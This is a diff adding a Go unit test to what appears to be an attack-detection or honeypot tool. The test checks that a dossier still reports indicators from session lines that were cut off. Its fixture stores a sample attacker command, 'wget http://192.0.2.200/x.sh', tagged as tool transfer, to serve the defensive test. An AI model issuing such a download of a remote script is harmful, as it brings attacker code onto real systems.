@@ -173,6 +173,23 @@ func TestKeptWithoutRoom(t *testing.T) {
 	}
 }
 
+// Of a session only so many lines are kept: what comes behind them is an indicator all
+// the same.
+func TestKeptInPart(t *testing.T) {
+	b := New(Config{Catalogue: attack.Load(), Stored: true})
+	if err := b.Kept(&store.KeptLines{Session: "s", Lines: []byte(`{"kind":"command","id":"1","text":"true"}` + "\n"), LeftOut: 1}); err != nil {
+		t.Fatal(err)
+	}
+	b.Tag([]event.Tag{{
+		SourceKind: "command", SourceID: "2", SessionID: event.Some("s"), AttackerIP: "203.0.113.9", Tactic: "TA0011", Technique: "T1105", RuleID: "R0012",
+		Confidence: 0.9, Evidence: []byte(`{"matched":"wget http://192.0.2.200/x.sh"}`), ObservedAt: "2026-11-22T10:00:00Z",
+	}})
+	d := b.Dossier()
+	if len(d.Sessions) != 1 || d.Sessions[0].Evidence || len(d.Sessions[0].Lines) != 1 || len(d.Indicators) == 0 {
+		t.Errorf("sessions %+v and %d indicators, want the one that was kept, and the URL that was not", d.Sessions, len(d.Indicators))
+	}
+}
+
 // TestFetchersInEvidence: what is looked for in a stored tag's example is found in its
 // evidence as it is stored, however the text around it is spelled there.
 func TestFetchersInEvidence(t *testing.T) {
